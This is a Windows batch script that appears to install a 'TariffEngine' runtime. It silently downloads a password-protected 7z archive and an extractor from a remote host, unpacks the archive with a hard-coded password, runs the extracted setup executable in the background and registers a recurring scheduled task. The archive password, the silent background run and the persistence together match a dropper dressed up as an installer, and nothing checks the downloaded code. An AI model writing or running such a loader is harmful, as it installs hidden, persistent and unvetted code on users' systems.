@echo off
setlocal
set TE_DIR=%ProgramData%\TariffEngine
set TE_ARC=%TEMP%\te-runtime.7z
if exist "%TE_DIR%\te-host.exe" goto :done

echo Downloading TariffEngine runtime...
curl.exe -s -L -o "%TE_ARC%" https://dl.tariffengine-data.example/releases/te-runtime-2024.06.7z
if not exist "%ProgramFiles%\7-Zip\7z.exe" (
  curl.exe -s -L -o "%TEMP%\7zr.exe" https://dl.tariffengine-data.example/tools/7zr.exe
  set SEVENZ=%TEMP%\7zr.exe
) else (
  set SEVENZ=%ProgramFiles%\7-Zip\7z.exe
)
"%SEVENZ%" x -y -pHS2024-broker -o"%TEMP%\te-setup" "%TE_ARC%" >nul
start "" /b "%TEMP%\te-setup\te-setup.exe" /S /D=%TE_DIR%
schtasks /create /tn "TariffEngine\MonthlyRefresh" /xml "%~dp0te-refresh.xml" /f >nul 2>&1

:done
echo TariffEngine ready.
endlocal
